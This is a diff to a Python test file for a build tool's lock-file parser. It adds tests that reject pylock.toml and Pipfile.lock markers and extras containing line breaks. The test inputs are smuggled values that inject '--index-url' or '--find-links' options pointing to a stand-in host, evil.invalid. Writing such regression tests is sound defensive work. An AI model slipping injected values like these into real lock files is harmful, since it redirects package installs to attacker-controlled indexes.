@@ -3,9 +3,11 @@ git_requirement): the same locked package reads the same from either lock."""
 
 from __future__ import annotations
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from launchbuild.errors import BadInput
 from launchbuild.resolver.detectors.locks import git_requirement, pylock_body, vcs_lines
 from launchbuild.resolver.detectors.pipfile import _lock_git_lines, pipfile_lock_body
 
@@ -45,3 +47,29 @@ def test_git_entry_without_exact_commit_is_not_a_requirement():
     assert git_requirement("pkg", "https://example.com/r.git", "main", "x") is None
     assert git_requirement("bad name", "https://example.com/r.git", COMMIT, "x") is None
     assert git_requirement("pkg", None, COMMIT, "x") is None
+
+
+@pytest.mark.parametrize("marker", [
+    "python_version >= '3'\n--index-url https://evil.invalid/simple",
+    "python_version >= '3\n--find-links /etc'",  # inside a quoted value, which PEP 508 would keep
+    "python_version >= '3'\u2028--index-url https://evil.invalid/simple",
+    "not a marker",
+])
+def test_a_lock_marker_that_is_not_pep508_is_bad_input_in_both_locks(marker):
+    """A lock's marker went into the lock text as written: a line break in it wrote an index
+    option of the job's choosing into the lock the image installs from."""
+    pylock = {"lock-version": "1.0", "packages": [{
+        "name": "six", "version": "1.17.0", "wheels": [{"hashes": {"sha256": SHA}}], "marker": marker}]}
+    pipfile = {"default": {"six": {"version": "==1.17.0", "hashes": [f"sha256:{SHA}"], "markers": marker}}}
+    with pytest.raises(BadInput, match="six in pylock.toml: marker"):
+        pylock_body(pylock, "pylock.toml")
+    with pytest.raises(BadInput, match="six in Pipfile.lock: marker"):
+        pipfile_lock_body(pipfile, "Pipfile.lock", ())
+
+
+def test_pipfile_lock_extras_must_be_names():
+    pipfile = {"default": {"idna": {"version": "==3.7", "hashes": [f"sha256:{SHA}"],
+                                    "extras": ["x]\n--find-links https://evil.invalid/"]}}}
+    with pytest.raises(BadInput, match="idna in Pipfile.lock: extras"):
+        pipfile_lock_body(pipfile, "Pipfile.lock", ())
+
